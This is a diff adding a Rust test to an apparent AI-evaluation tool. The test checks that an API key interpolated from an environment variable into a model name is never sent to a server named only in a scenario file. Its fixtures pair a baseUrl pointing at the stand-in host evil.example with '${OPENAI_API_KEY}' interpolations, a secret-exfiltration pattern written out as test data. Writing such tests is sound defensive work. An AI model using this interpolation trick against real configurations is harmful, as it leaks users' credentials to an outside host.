@@ -337,6 +337,31 @@ fn keys_go_only_to_addresses_that_the_base_knows() {
 }
 
 #[test]
+fn a_name_made_of_a_variable_goes_to_no_server_that_only_a_scenario_names() {
+    let foreign = format!(
+        "name: s\nproviderConfig: {{ baseUrl: \"{EVIL}\", apiKey: own }}\ncases: [{{ id: a, prompt: q, expected: \
+         {{ type: contains, values: [good] }} }}]\n"
+    );
+    for named in [
+        "model: \"${OPENAI_API_KEY}\"\n",
+        "model: \"x-${ OPENAI_API_KEY }\"\n",
+        "providers: { openai: { defaultModel: \"${OPENAI_API_KEY:-x}\" } }\n",
+    ] {
+        let ran = base(&[("scenarios/s.yaml", SUITE.to_owned())]);
+        change(&ran, &[("scenarios/s.yaml", foreign.clone()), ("akit.yaml", named.to_owned())]);
+        for who in ["base", "head"] {
+            let proxy = saying("good");
+            let told = asking(&ran, &proxy, who, &[]);
+            assert!(proxy.asked().is_empty(), "{named} {who}: {}", told.stdout);
+            assert!(!format!("{}{}", told.stdout, told.stderr).contains("sk-env-key"), "{named}");
+            if who == "head" {
+                told.ended(2).err("`OPENAI_API_KEY` holds is not sent to http://evil.example");
+            }
+        }
+    }
+}
+
+#[test]
 fn a_base_without_akit_yaml_means_the_defaults_and_the_vendors_own_addresses() {
     let suite = "name: s\nprovider: openai\nmodel: m\ncases: [{ id: a, prompt: q, expected: { type: contains, values: [good] } }]\n";
     let ran = base(&files(&[("scenarios/s.yaml", suite)]));
